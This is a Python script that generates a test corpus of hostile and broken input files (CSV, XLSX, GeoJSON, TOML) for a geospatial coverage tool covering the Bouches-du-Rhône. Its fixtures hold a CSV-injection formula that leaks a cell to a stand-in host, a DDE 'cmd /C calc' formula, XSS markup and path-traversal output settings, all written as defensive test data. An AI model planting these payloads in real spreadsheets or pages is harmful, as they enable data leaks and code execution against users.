"""Write the corpus of hostile and broken input files (``python tests/data/hostile/make_hostile.py``).

Every file is made here, byte for byte, so the corpus can be rebuilt and
read: spreadsheets exported by hand (hidden sheet, several sheets, an Excel
workbook renamed ``.csv``), half-saved CSV files (a quote never closed),
attacks (formulas, control characters, markup in names), layers in
Lambert-93 without a declared system, odd geometries, and TOML files with
absurd values or outputs pointing outside their folder.

The expected outcome of each file is asserted in ``tests/test_hostile.py``.
The communes are those of the Bouches-du-Rhône shipped with couverture
(``--departement 13``); the structures are fictitious.
"""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[2]

HEADER = "N° agrément;Nom de la structure;Type;Code INSEE;Latitude;Longitude"

#: A clean structures file the zones and TOML cases refer to.
BASE_ROWS = [
    "CS-A;Centre social d'Aix;CS;13001;43,5297;5,4474",
    "EVS-B;EVS d'Arles;EVS;13004;43,6766;4,6278",
    "CS-C;Centre social d'Aubagne;CS;13005;43,2927;5,5708",
]


def _csv(name: str, lines: list[str], *, newline: str = "\n", encoding: str = "utf-8") -> None:
    (HERE / name).write_bytes(newline.join(lines).encode(encoding) + newline.encode(encoding))


def _xlsx_bytes(sheets: list[tuple[str, list[list], str]], active: int = 0) -> bytes:
    """A workbook: (title, rows, state) per sheet; fixed timestamps for identical bytes."""
    import datetime as dt

    from openpyxl import Workbook

    wb = Workbook()
    wb.remove(wb.active)
    for title, rows, state in sheets:
        ws = wb.create_sheet(title)
        for row in rows:
            ws.append(row)
        ws.sheet_state = state
    wb.active = active
    fixed = dt.datetime(2025, 1, 1)
    wb.properties.created = fixed
    wb.properties.modified = fixed
    buffer = io.BytesIO()
    wb.save(buffer)
    out = io.BytesIO()
    with zipfile.ZipFile(buffer) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            zi = zipfile.ZipInfo(info.filename, date_time=(1980, 1, 1, 0, 0, 0))
            zi.compress_type = zipfile.ZIP_DEFLATED
            dst.writestr(zi, src.read(info.filename))
    return out.getvalue()


def _rows(lines: list[str]) -> list[list]:
    return [line.split(";") for line in lines]


def _geojson(name: str, features: list[tuple[dict, dict | None]], crs: str | None = None) -> None:
    doc: dict = {"type": "FeatureCollection"}
    if crs is not None:
        doc["crs"] = {"type": "name", "properties": {"name": crs}}
    doc["features"] = [{"type": "Feature", "properties": p, "geometry": g} for p, g in features]
    (HERE / name).write_text(json.dumps(doc, ensure_ascii=False, indent=0) + "\n", encoding="utf-8")


def _l93(lon: float, lat: float) -> list[float]:
    import pyproj

    x, y = pyproj.Transformer.from_crs(4326, 2154, always_xy=True).transform(lon, lat)
    return [round(x, 1), round(y, 1)]


def structures() -> None:
    _csv("structures_base.csv", [HEADER, *BASE_ROWS])
    # a sheet hidden in front of the real one (an old list kept by the CAF)
    old = _rows([HEADER, "OLD-1;Ancien centre;CS;13001;43,5297;5,4474", "OLD-2;Ancien EVS;EVS;13004;43,6766;4,6278"])
    new = _rows([HEADER, *BASE_ROWS, "EVS-D;EVS de Martigues;EVS;13056;43,3650;5,0566"])
    (HERE / "structures_feuille_masquee.xlsx").write_bytes(
        _xlsx_bytes([("Liste 2019", old, "hidden"), ("Agréments 2025", new, "visible")], active=1)
    )
    # two visible sheets with data: CS on one, EVS on the other
    (HERE / "structures_plusieurs_feuilles.xlsx").write_bytes(
        _xlsx_bytes(
            [
                ("CS", _rows([HEADER, BASE_ROWS[0], BASE_ROWS[2]]), "visible"),
                ("EVS", _rows([HEADER, BASE_ROWS[1]]), "visible"),
            ]
        )
    )
    # a quote opened on line 3 and never closed: the rows after it must not vanish
    _csv(
        "structures_guillemet_ouvert.csv",
        [
            HEADER,
            BASE_ROWS[0],
            'CS-Q;"Centre social du Jas;CS;13001;43,5297;5,4474',
            BASE_ROWS[1],
            BASE_ROWS[2],
            "EVS-D;EVS de Martigues;EVS;13056;43,3650;5,0566",
            "EVS-E;EVS de Salon;EVS;13103;43,6403;5,0973",
        ],
    )
    # a legitimate address on two lines, and a quote opened on the last line
    _csv(
        "structures_guillemet_fin.csv",
        [
            HEADER + ";Adresse",
            BASE_ROWS[0] + ';"12 rue Mignet',
            'BP 5"',
            BASE_ROWS[1] + ";2 place de la République",
            BASE_ROWS[2] + ';"8 cours Foch',
        ],
    )
    # control characters in names (NUL, BEL, ESC, vertical tab)
    _csv(
        "structures_controle.csv",
        [
            HEADER,
            "CS-A;Centre\x00 social d'Aix;CS;13001;43,5297;5,4474",
            "EVS-B;EVS\x07 d'Arles\x1b[31m;EVS;13004;43,6766;4,6278",
            "CS-C;Centre social\x0b d'Aubagne;CS;13005;43,2927;5,5708",
        ],
    )
    # formulas in text cells (OWASP CSV injection), and a negative number as text
    _csv(
        "structures_injection.csv",
        [
            HEADER + ";Gestionnaire;Solde",
            'CS-A;"=HYPERLINK(""http://exemple.invalid/?v=""&A1;""clic"")";CS;13001;43,5297;5,4474;+33 4 42 00 00 00;-12,5',
            "EVS-B;@SUM(1+1)*cmd|' /C calc'!A0;EVS;13004;43,6766;4,6278;-2+3;-3",
            'CS-C;"\tTabulation";CS;13005;43,2927;5,5708;"\rRetour";4',
            "EVS-D;-1+1;EVS;13056;43,3650;5,0566;=1+1;0",
        ],
    )
    # an Excel workbook saved under a .csv name
    (HERE / "structures_excel_renomme.csv").write_bytes(
        _xlsx_bytes([("Feuil1", _rows([HEADER, *BASE_ROWS]), "visible")])
    )
    # an old .xls (OLE2 header) renamed .csv
    (HERE / "structures_xls_renomme.csv").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))
    # coordinates "lat, lon" in one cell, written three ways
    _csv(
        "structures_coordonnees_cellule.csv",
        [
            "N° agrément;Nom de la structure;Type;Coordonnées GPS",
            "CS-A;Centre social d'Aix;CS;43.5297,5.4474",
            'EVS-B;EVS d\'Arles;EVS;"(43.6766, 4.6278)"',
            "CS-C;Centre social d'Aubagne;CS;43,2927 / 5,5708",
        ],
    )
    # non-finite coordinates
    _csv(
        "structures_coordonnee_infinie.csv",
        [
            HEADER,
            BASE_ROWS[0],
            "EVS-B;EVS d'Arles;EVS;13004;1e400;4,6278",
            "CS-C;Centre social d'Aubagne;CS;13005;43,2927;inf",
            "EVS-D;EVS de Martigues;EVS;13056;NaN;5,0475",
        ],
    )
    # old Mac line endings (CR only): every row on its own line
    _csv("structures_fins_de_ligne_cr.csv", [HEADER, *BASE_ROWS], newline="\r")
    # names that are markup, formulas and control characters at once (atlas in a browser)
    _csv(
        "structures_noms_hostiles.csv",
        [
            HEADER,
            "CS-A;<script>alert(1)</script>;CS;13001;43,5297;5,4474",
            'EVS-B;"=HYPERLINK(""http://exemple.invalid"";""x"")";EVS;13004;43,6766;4,6278',
            "CS-C;Centre\x00 <img src=x onerror=alert(2)>;CS;13005;43,2927;5,5708",
        ],
    )
    # points in Lambert-93 in a GeoJSON without "crs" member
    pts = [("CS-A", "Centre social d'Aix", "CS", 5.4474, 43.5297), ("EVS-B", "EVS d'Arles", "EVS", 4.6278, 43.6766)]
    _geojson(
        "structures_l93_sans_crs.geojson",
        [
            ({"identifiant": i, "nom": n, "type": t}, {"type": "Point", "coordinates": _l93(lon, lat)})
            for i, n, t, lon, lat in pts
        ],
    )
    # odd geometries for points: a collection, an empty point, no geometry, a valid point
    _geojson(
        "structures_geometries.geojson",
        [
            (
                {"identifiant": "CS-A", "nom": "Centre social d'Aix", "type": "CS"},
                {"type": "Point", "coordinates": [5.4474, 43.5297]},
            ),
            (
                {"identifiant": "EVS-B", "nom": "EVS d'Arles", "type": "EVS"},
                {"type": "GeometryCollection", "geometries": [{"type": "Point", "coordinates": [4.6278, 43.6766]}]},
            ),
            (
                {"identifiant": "CS-C", "nom": "Centre social d'Aubagne", "type": "CS"},
                {"type": "Point", "coordinates": []},
            ),
            ({"identifiant": "EVS-D", "nom": "EVS sans géométrie", "type": "EVS"}, None),
        ],
    )


def _square(lon: float, lat: float, d: float = 0.02) -> list:
    return [[[lon - d, lat - d], [lon + d, lat - d], [lon + d, lat + d], [lon - d, lat + d], [lon - d, lat - d]]]


def zones() -> None:
    import pyproj

    tr = pyproj.Transformer.from_crs(4326, 2154, always_xy=True)
    square = _square(5.4474, 43.5297)
    l93 = [[[round(v, 1) for v in tr.transform(x, y)] for x, y in ring] for ring in square]
    _geojson("zones_l93_sans_crs.geojson", [({"structure_id": "CS-A"}, {"type": "Polygon", "coordinates": l93})])
    bowtie = [[[5.50, 43.25], [5.62, 43.33], [5.62, 43.25], [5.50, 43.33], [5.50, 43.25]]]
    _geojson(
        "zones_geometries.geojson",
        [
            ({"structure_id": "CS-A"}, {"type": "Polygon", "coordinates": square}),
            (
                {"structure_id": "EVS-B"},
                {
                    "type": "GeometryCollection",
                    "geometries": [
                        {"type": "Polygon", "coordinates": _square(4.6278, 43.6766)},
                        {"type": "LineString", "coordinates": [[4.6, 43.6], [4.7, 43.7]]},
                    ],
                },
            ),
            ({"structure_id": "CS-C"}, {"type": "Polygon", "coordinates": []}),
            ({"structure_id": "CS-C"}, {"type": "Polygon", "coordinates": bowtie}),
        ],
    )


def communes() -> None:
    import geopandas as gpd
    import shapely

    src = gpd.read_file(ROOT / "data" / "communes" / "communes-13.geojson")
    some = src[src["code_insee"].isin(["13001", "13004", "13005", "13056", "13103"])].reset_index(drop=True)
    metric = some.to_crs(2154)
    feats = []
    for _, row in metric.iterrows():
        geom = shapely.set_precision(row.geometry, 1.0)
        props = {"code_insee": row["code_insee"], "nom": row["nom"], "population": int(row["population"])}
        feats.append((props, json.loads(shapely.to_geojson(geom))))
    _geojson("communes_l93_sans_crs.geojson", feats)
    feats = []
    for k, row in some.iterrows():
        geom = json.loads(shapely.to_geojson(shapely.set_precision(row.geometry, 1e-4)))
        if k == 2:
            geom = {"type": "GeometryCollection", "geometries": [geom]}
        props = {"code_insee": row["code_insee"], "nom": row["nom"], "population": int(row["population"])}
        feats.append((props, geom))
    _geojson("communes_geometrycollection.geojson", feats)
    # one contour that crosses itself (a bowtie over the commune's extent): repaired, listed by its line
    feats = []
    for k, row in some.iterrows():
        geom = json.loads(shapely.to_geojson(shapely.set_precision(row.geometry, 1e-4)))
        if k == 4:
            x0, y0, x1, y1 = (round(v, 4) for v in row.geometry.bounds)
            geom = {"type": "Polygon", "coordinates": [[[x0, y0], [x1, y1], [x1, y0], [x0, y1], [x0, y0]]]}
        props = {"code_insee": row["code_insee"], "nom": row["nom"], "population": int(row["population"])}
        feats.append((props, geom))
    _geojson("communes_polygone_invalide.geojson", feats)


def configs() -> None:
    head = '[entrees]\ndepartement = "13"\nstructures = "structures_base.csv"\n'
    cases = {
        "config_rayon_inf.toml": "[parametres]\nrayon_m = inf\n",
        "config_rayon_1e400.toml": "[parametres]\nrayon_m = 1e400\n",
        "config_distance_nan.toml": "[parametres]\ndistance_max_m = nan\n",
        "config_distance_negative.toml": "[parametres]\n# négatif\ndistance_max_m = -10000\n",
        "config_scenario_inf.toml": "[scenarios]\nk = 2\nrayon_m = -inf\n",
        "config_sorties_parent.toml": '[sorties]\natlas = "../../atlas-hors-dossier"\n',
        "config_sorties_absolu.toml": '[sorties]\ndiagnostic = "/tmp/couverture-hors-dossier.xlsx"\n',
    }
    for name, body in cases.items():
        (HERE / name).write_text(head + body, encoding="utf-8")


def main() -> None:
    structures()
    zones()
    communes()
    configs()


if __name__ == "__main__":
    main()
